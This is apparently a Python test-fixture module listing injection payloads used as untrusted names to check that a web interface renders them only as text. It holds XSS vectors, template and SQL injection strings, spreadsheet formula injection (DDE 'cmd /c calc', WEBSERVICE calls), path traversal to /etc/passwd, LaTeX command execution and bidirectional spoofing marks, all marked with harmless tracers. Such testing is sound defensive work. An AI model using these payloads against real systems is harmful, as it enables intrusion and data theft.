"""Names that attack whoever shows them as anything but text: one shape a line, at most 300 characters each.

A payload that works leaves a trace that ``tests/browser`` looks for: it sets ``top.malRan``, makes an element with the
attribute ``data-mal``, or asks ``mal.invalid`` (a host that never exists). The others change what is read: Markdown,
templates, bidirectional marks, formulas.
"""

RUN = "top.malRan=1"
ASK = "//mal.invalid/x"

ELEMENTS = (
    f"<script data-mal>{RUN}</script>",
    f"<ScRiPt data-mal>{RUN}</sCrIpT >",
    f"<script data-mal src=http:{ASK}.js></script>",
    f"</script><script data-mal>{RUN}</script>",
    f"</textarea></title></style><script data-mal>{RUN}</script>",
    f"--><script data-mal>{RUN}</script><!--",
    f"]]><script data-mal>{RUN}</script>",
    f"<img data-mal src=x onerror={RUN}>",
    f"<img data-mal src=x onerror=\"{RUN}\">",
    f"<img/data-mal/src=x/onerror={RUN}//",
    f"<img data-mal src='http:{ASK}.png'>",
    f"<svg data-mal onload={RUN}></svg>",
    f"<svg data-mal><script>{RUN}</script></svg>",
    f"<svg data-mal><animate onbegin={RUN} attributeName=x dur=1s /></svg>",
    f"<svg data-mal xmlns='http://www.w3.org/2000/svg'><use href='http:{ASK}.svg#a'/></svg>",
    f"<math data-mal><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<iframe data-mal src=\"javascript:{RUN}\"></iframe>",
    f"<iframe data-mal srcdoc=\"<script>{RUN}</script>\"></iframe>",
    f"<object data-mal data='http:{ASK}.swf'></object>",
    f"<embed data-mal src='http:{ASK}.swf'>",
    f"<video data-mal><source onerror={RUN}></video>",
    f"<details data-mal open ontoggle={RUN}>détails</details>",
    f"<body data-mal onload={RUN}>",
    f"<input data-mal autofocus onfocus={RUN}>",
    f"<marquee data-mal onstart={RUN}>défile</marquee>",
    f"<a data-mal href=\"javascript:{RUN}\">cliquez</a>",
    f"<form data-mal action=http:{ASK}><button>Envoyer</button></form>",
    f"<meta data-mal http-equiv=refresh content='0;url=http:{ASK}'>",
    f"<link data-mal rel=stylesheet href='http:{ASK}.css'>",
    f"<base data-mal href='http:{ASK}'>",
    f"<style data-mal>@import 'http:{ASK}.css';</style>",
    f"<div data-mal style=\"background:url(http:{ASK}.png)\">fond</div>",
    f"<template data-mal><script>{RUN}</script></template>",
    f"<noscript><p title=\"</noscript><img data-mal src=x onerror={RUN}>\">",
    "<b data-mal>gras</b><br data-mal>suite",
    "<h1 data-mal>Titre usurpé</h1>",
    "<!--", "<", "</", "<a", "<<b data-mal>", "<![CDATA[x", "<?xml version='1.0'?>",
    f"&lt;img data-mal src=x onerror={RUN}&gt;",
    "&#60;b data-mal&#62;gras&#60;/b&#62; &amp;amp; &eacute;",
    f"\\u003cimg data-mal src=x onerror={RUN}\\u003e",
    f"%3Cscript data-mal%3E{RUN}%3C/script%3E",
    f"＜script data-mal＞{RUN}＜/script＞",
)  # fmt: skip

ATTRIBUTES = (
    f"\" onmouseover=\"{RUN}\" data-mal=\"",
    f"' onmouseover='{RUN}' data-mal='",
    f"\"><img data-mal src=x onerror={RUN}>",
    f"'><img data-mal src=x onerror={RUN}>",
    f"` onmouseover=`{RUN}` data-mal=`",
    f"x onfocus={RUN} autofocus tabindex=0 data-mal=",
)  # fmt: skip

PROGRAMS = (
    f"';{RUN};//", f"\";{RUN};//", f"`;{RUN};//", f"${{{RUN}}}", f"\\';{RUN};//", f"*/{RUN}/*",
    f"\");{RUN};(\"", f"\u2028{RUN}\u2028fin", f"fin\u2029{RUN}//", f"javascript:{RUN}",
    f"\"}}}};{RUN};({{\"a\":{{\"b\":\"", "{\"__proto__\":{\"malRan\":1}}", "__proto__", "constructor", "toString",
    "{{7*7}}", "{% raw %}{{ config }}{% endraw %}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "%(name)s %s %n", "$(id)",
    f"{{{{constructor.constructor('{RUN}')()}}}}", "'; DROP TABLE partners; --", "\\", "\\\\", "\\n\\t\\x00",
    "#panic(\"x\") #eval(\"1\")", "#image(\"/etc/passwd\") #read(\"x\")", "$x^2$ _y_ *z* @ref <label>",
    "\\input{/etc/passwd} \\write18{id}",
)  # fmt: skip

MARKDOWN = (
    "**gras** _italique_ ~~barré~~ `code`",
    f"![image](http:{ASK}.png)", f"[![image](http:{ASK}.png)](http:{ASK})", f"![image][mal]\n\n[mal]: http:{ASK}.png",
    f"[lien](http:{ASK})", f"[lien](javascript:{RUN})", f"<http:{ASK}>",
    f"http:{ASK}", "www.mal.invalid", "pirate@mal.invalid", f"file:///etc/passwd ftp:{ASK}",
    "# Titre usurpé", "- puce", "1. puce", "1) puce", "+ puce", "> citation", "---", "texte\n===", "texte\n---", "    bloc",
    "| a | b |\n|---|---|\n| 1 | 2 |", "```\nbloc\n```", "~~~", "- [x] fait", "[^1]: note", "note[^1]",
    "$x^2$ et $$\\frac{1}{2}$$", "\\(x\\) \\[x\\]",
    ":red[rouge] :blue-background[bleu] :rainbow[arc]", ":red-badge[alerte]", ":small[petit]",
    ":material/home: :streamlit: :smile: :shortcode:", "-> <- <-> -- >= <= ~=", ":::note\ntexte\n:::",
)  # fmt: skip

SIGNS = (
    "CHU \u202e59 ellil ed\u202c", "CHU \u202e59 sans fin", "\u2067droite à gauche\u2069 puis gauche", "\u2066isolé",
    "\u200fمستشفى ليل\u200f", "בית חולים 123 (abc)", "zéro\u200bchasse\u200dinvisible\u2060\ufeff.",
    "e\u0301\u0302\u0303\u0304 empilé " + "\u0336" * 40, "👩‍👩‍👧‍👦 🏴‍☠️ 🇫🇷", "𝕮𝖍𝖚 𝒢𝒶𝓈", "ﬀ Ⅻ ½ ﷽",
    "\u00adtrait\u00advirtuel\u00a0insécable", "\u2800", "日本語の病院", "ΩΣ≈ç√∫˜µ≤≥÷", "\ud7ff\ue000\ufffd",
    "a\tb", "a\nb", "a\r\nb", "  deux  espaces  ",
    "x" * 300, "mot " * 74 + "fin", "é" * 120, "<" * 120, "&" * 120, "🙂" * 60, "\"" * 120, "W" * 90,
)  # fmt: skip

CELLS = (
    "=1+1", "=cmd|'/c calc'!A0", f"=HYPERLINK(\"http:{ASK}\";\"cliquez\")", f"=WEBSERVICE(\"http:{ASK}\")",
    f"=IMAGE(\"http:{ASK}.png\")", "+33 1 02 03", "-2+3", "@SUM(A1:A9)", "{=SUM(A1:A2)}", "'=1+1", "\"=1+1\"",
    "=DDE(\"cmd\";\"/c calc\";\"x\")", "%0A=1+1", "；=1+1", "＝1+1", "a;b,c|d", "x\";=1+1;\"",
    "NULL", "null", "None", "undefined", "NaN", "nan", "<NA>", "NaT", "true", "false", "0", "-0", "1E5", "0x1F", "1e999",
    "Search", "Close", "No data", "Download as CSV", "Remove x",
    "[object Object]", "../../../etc/passwd", "C:\\Windows\\System32", "nom/..%2f..%2f", "CON", ".htaccess",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (*ELEMENTS, *ATTRIBUTES, *PROGRAMS, *MARKDOWN, *SIGNS, *CELLS)
